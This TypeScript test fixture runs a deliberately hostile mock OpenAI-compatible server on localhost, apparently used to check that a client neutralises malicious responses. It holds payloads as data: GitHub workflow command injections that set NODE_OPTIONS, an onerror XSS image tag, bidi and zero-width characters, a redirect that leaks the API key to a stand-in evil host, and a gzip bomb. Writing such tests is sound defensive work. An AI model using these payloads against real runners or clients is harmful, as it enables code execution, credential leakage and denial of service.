/**
 * An OpenAI-compatible server on 127.0.0.1 that does its worst with everything it controls: it echoes
 * the API key it receives (plain, URL-encoded, base64, split across chunks) into every field and
 * header, and sends workflow commands, tracker markers, autolinks, mentions, bidi and zero-width
 * characters, quadratic-regex bait and huge fields. One behaviour per model name.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';

/** Server text that would be live somewhere if it were not made inert. Canaries are unique words. */
export const HOSTILE_TEXT = [
  '##[set-env name=NODE_OPTIONS;]--require /tmp/x.js',
  '##[stop-commands]tok123',
  '##[add-matcher]/tmp/m.json',
  '#\u200B#[error]zero width',
  '\r::error::carriage',
  '<!-- llm-heartbeat:target "prod" -->',
  '@hostileuser @acme/hostileteam GH-4242 acme/evil#4242 acme/evil@cafebabe1 c0ffee1234567',
  'www.evil-host.example https://evil-host.example/x hostile@evil-host.example',
  '<b>bold</b> <img src=x onerror=alert(1)> </details> | ``` ',
  '\u202Eevil\u202C \u2066iso\u2069 \uFEFFbom \u200Bzw',
  '\u001b[31mred\u001b[0m',
].join(' ');

/** The canaries: none may appear anywhere in a form GitHub or the runner would act on. */
export const CANARIES = {
  mention: '@hostileuser',
  team: '@acme/hostileteam',
  ghRef: 'GH-4242',
  repoRef: 'acme/evil#4242',
  repoSha: 'acme/evil@cafebabe1',
  sha: 'c0ffee1234567',
  www: 'www.evil-host',
  url: '://evil-host',
  email: 'hostile@evil-host',
  marker: '<!-- llm-heartbeat:target "prod"',
  html: '<b>',
  img: '<img',
} as const;

export type HostileMode =
  | 'echo-json'
  | 'echo-stream'
  | 'echo-error'
  | 'redirect'
  | 'html-bait'
  | 'huge'
  | 'gzip-bomb';

export interface HostileProvider {
  url: string;
  requests: number;
  close(): Promise<void>;
}

function keyOf(req: IncomingMessage): string {
  const auth = req.headers.authorization ?? '';
  return auth.replace(/^Bearer\s+/i, '') || String(req.headers['api-key'] ?? '');
}

/** Every form of the key a careless server would echo. */
function forms(key: string) {
  return {
    plain: key,
    url: encodeURIComponent(`${key}`),
    b64: Buffer.from(key).toString('base64'),
    b64inner: Buffer.from(`x:${key}`).toString('base64'),
  };
}

function completion(model: string, fields: Record<string, unknown>) {
  return {
    id: 'chatcmpl-1',
    object: 'chat.completion',
    created: 1,
    model,
    choices: [{ index: 0, message: { role: 'assistant', content: 'pong' }, finish_reason: 'stop' }],
    usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
    ...fields,
  };
}

function handle(mode: HostileMode, req: IncomingMessage, res: ServerResponse, body: string): void {
  const k = forms(keyOf(req));
  const hostileHeaders = {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: a header value may hold no control characters
    'x-request-id': `${k.plain} ${HOSTILE_TEXT.replace(/[\r\n\u0000-\u001f\u007f-\uffff]/g, ' ')}`,
    'openai-model': k.b64,
  };
  const stream = /"stream"\s*:\s*true/.test(body);
  const model = `${k.plain} ${HOSTILE_TEXT} ${k.b64inner}`;
  switch (mode) {
    case 'echo-json': {
      if (stream) {
        handle('echo-stream', req, res, body);
        return;
      }
      res.writeHead(200, { 'content-type': 'application/json', ...hostileHeaders });
      res.end(
        JSON.stringify(
          completion(model, {
            system_fingerprint: `${k.url} ${HOSTILE_TEXT}`,
            choices: [
              {
                index: 0,
                message: { role: 'assistant', content: `pong ${k.plain} ${HOSTILE_TEXT}` },
                finish_reason: `stop ${k.b64}`,
              },
            ],
          }),
        ),
      );
      return;
    }
    case 'echo-stream': {
      res.writeHead(200, { 'content-type': 'text/event-stream', ...hostileHeaders });
      const half = Math.floor(k.plain.length / 2);
      const chunk = (delta: object, finish: string | null) =>
        `data: ${JSON.stringify({ id: k.plain, object: 'chat.completion.chunk', created: 1, model, system_fingerprint: k.b64, choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
      res.write(chunk({ role: 'assistant', content: `pong ${k.plain.slice(0, half)}` }, null));
      res.write(chunk({ content: `${k.plain.slice(half)} ${HOSTILE_TEXT}` }, null));
      res.write(chunk({}, 'stop'));
      res.end('data: [DONE]\n\n');
      return;
    }
    case 'echo-error': {
      res.writeHead(429, { 'content-type': 'application/json', 'retry-after': k.plain, ...hostileHeaders });
      res.end(
        JSON.stringify({
          error: {
            message: `Incorrect API key ${k.plain} ${HOSTILE_TEXT}`,
            type: k.b64,
            param: k.url,
            code: k.plain,
          },
        }),
      );
      return;
    }
    case 'redirect': {
      res.writeHead(307, {
        location: `https://evil-host.example/v1?code=${k.url}&n=${HOSTILE_TEXT.length}`,
        ...hostileHeaders,
      });
      res.end();
      return;
    }
    case 'html-bait': {
      res.writeHead(502, { 'content-type': 'text/html' });
      res.end(
        `<html><head><title>502 ${k.plain}</title></head><body>${'<'.repeat(200_000)} ${HOSTILE_TEXT} 203.0.113.9 ${k.url}</body></html>`,
      );
      return;
    }
    case 'huge': {
      res.writeHead(200, { 'content-type': 'application/json', 'x-request-id': 'r'.repeat(60_000) });
      res.end(
        JSON.stringify(
          completion(`${k.plain}${'m'.repeat(2_000_000)}`, {
            system_fingerprint: 'f'.repeat(500_000),
            choices: [
              {
                index: 0,
                message: { role: 'assistant', content: 'pong' },
                finish_reason: 's'.repeat(1_000_000),
              },
            ],
          }),
        ),
      );
      return;
    }
    case 'gzip-bomb': {
      const bomb = gzipSync(Buffer.alloc(100 * 1024 * 1024, 32), { level: 9 });
      res.writeHead(200, {
        'content-type': stream ? 'text/event-stream' : 'application/json',
        'content-encoding': 'gzip',
      });
      res.end(bomb);
      return;
    }
  }
}

export async function startHostileProvider(modes: Record<string, HostileMode>): Promise<HostileProvider> {
  let requests = 0;
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (d) => {
      body += d;
    });
    req.on('end', () => {
      requests++;
      const model = /"model"\s*:\s*"([^"]*)"/.exec(body)?.[1] ?? '';
      handle(modes[model] ?? 'echo-json', req, res, body);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/v1`,
    get requests() {
      return requests;
    },
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
